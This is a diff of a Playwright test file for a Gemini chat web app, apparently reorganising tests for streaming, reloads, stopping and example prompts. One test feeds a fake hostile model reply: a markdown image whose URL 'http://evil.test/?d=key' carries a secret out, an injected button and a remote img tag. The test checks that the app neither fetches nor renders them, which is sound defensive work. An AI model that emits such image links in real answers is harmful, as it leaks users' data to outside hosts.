@@ -40,25 +40,6 @@ def held(answer: dict[str, Any], after_chunks: int = 1) -> dict[str, Any]:
     return {"kind": "Hold", "answer": answer, "after_chunks": after_chunks}
 
 
-def test_with_a_key_an_example_fills_the_composer_and_does_not_send(page: Page, gemini_studio: PageProcess) -> None:
-    open_page(page, gemini_studio.url)
-    page.locator(".wish-fox").click()
-    expect(composer(page)).to_have_value("Draw a red fox in the snow, watercolour")
-    expect(page.locator("#chat .user")).to_have_count(0)
-
-
-def test_an_answer_streams_as_markdown(page: Page, gemini: GeminiProcess, gemini_studio: PageProcess) -> None:
-    gemini.control(on_text=[held(words("A **fox** it is. " * 20, chunks=20), after_chunks=4)])
-    open_page(page, gemini_studio.url)
-    say(page, "talk to me of foxes")
-    expect(page.locator("#chat .bot strong").first).to_have_text("fox")
-    expect(page.locator(".live")).to_contain_text("Thinking…")
-    expect(page.locator("#box .stop-button")).to_be_visible()
-    gemini.release()
-    expect(page.locator("#chat .bot strong")).to_have_count(20)
-    expect_rest(page)
-
-
 def test_a_frame_of_the_right_shape_stands_before_its_picture(
     page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
 ) -> None:
@@ -116,6 +97,27 @@ def test_stop_stops_and_the_conversation_goes_on(page: Page, gemini: GeminiProce
     expect(page.locator(".stopped")).to_be_visible()
 
 
+def test_an_answer_streams_as_markdown_and_a_picture_from_elsewhere_is_not_fetched_nor_a_button_made(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    gemini.control(on_text=[held(words("A **fox** it is. " * 20, chunks=20), after_chunks=4)])
+    open_page(page, gemini_studio.url)
+    say(page, "talk to me of foxes")
+    expect(page.locator("#chat .bot strong").first).to_have_text("fox")
+    expect(page.locator(".live")).to_contain_text("Thinking…")
+    expect(page.locator("#box .stop-button")).to_be_visible()
+    gemini.release()
+    expect(page.locator("#chat .bot strong")).to_have_count(20)
+    expect_rest(page)
+    hostile = '![x](http://evil.test/?d=key) <button data-act="new">Click</button> <img src="http://evil.test/b">'
+    gemini.control(on_text=[words(hostile, chunks=3)])
+    say(page, "be evil")
+    expect(page.locator("#chat .bot").last).to_contain_text("[image: evil.test]")
+    expect_rest(page)
+    expect(page.locator("#chat [data-act=new]")).to_have_count(0)
+    expect(page.locator("#chat .md img")).to_have_count(0)
+
+
 def test_a_reload_in_the_middle_follows_the_turn_to_its_end(
     page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
 ) -> None:
@@ -130,6 +132,23 @@ def test_a_reload_in_the_middle_follows_the_turn_to_its_end(
     expect(page.locator("#chat .bot")).to_contain_text("five")
     expect_rest(page)
     assert gemini.read("state")["requests"] == 1
+
+
+def test_a_page_closed_in_mid_answer_finds_it_finished(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    gemini.control(on_text=[paint()], on_image=[held({"kind": "PictureAnswer"}, after_chunks=0)])
+    open_page(page, gemini_studio.url)
+    say(page, "draw a castle on a hill")
+    expect(page.locator("#chat .frame.pending")).to_have_count(1)
+    expect(page.get_by_role("button", name="Edit and send again").first).to_be_disabled()
+    expect(page).to_have_url(re.compile(r"\?c=\w{8,}"))
+    address = page.url
+    page.goto("about:blank")
+    gemini.release()
+    page.goto(address)
+    expect(pictures(page)).to_have_count(1)
+    expect_rest(page)
 
 
 def test_another_conversation_opened_meanwhile_is_not_written_into(
@@ -170,21 +189,13 @@ def test_a_failure_says_who_must_act_and_it_can_be_tried_again(
     expect_rest(page)
 
 
-def test_a_models_picture_from_elsewhere_is_not_fetched_and_its_buttons_are_words(
-    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+def test_an_example_fills_the_composer_and_is_not_sent_and_only_what_the_chosen_model_obeys_is_offered(
+    page: Page, gemini_studio: PageProcess
 ) -> None:
-    hostile = '![x](http://evil.test/?d=key) <button data-act="new">Click</button> <img src="http://evil.test/b">'
-    gemini.control(on_text=[words(hostile, chunks=3)])
     open_page(page, gemini_studio.url)
-    say(page, "be evil")
-    expect(page.locator("#chat .bot")).to_contain_text("[image: evil.test]")
-    expect_rest(page)
-    expect(page.locator("#chat [data-act=new]")).to_have_count(0)
-    expect(page.locator("#chat .md img")).to_have_count(0)
-
-
-def test_only_what_the_chosen_model_obeys_is_offered(page: Page, gemini_studio: PageProcess) -> None:
-    open_page(page, gemini_studio.url)
+    page.locator(".wish-fox").click()
+    expect(composer(page)).to_have_value("Draw a red fox in the snow, watercolour")
+    expect(page.locator("#chat .user")).to_have_count(0)
 
     def ratios() -> list[str]:
         page.get_by_role("combobox", name="Aspect ratio").click()
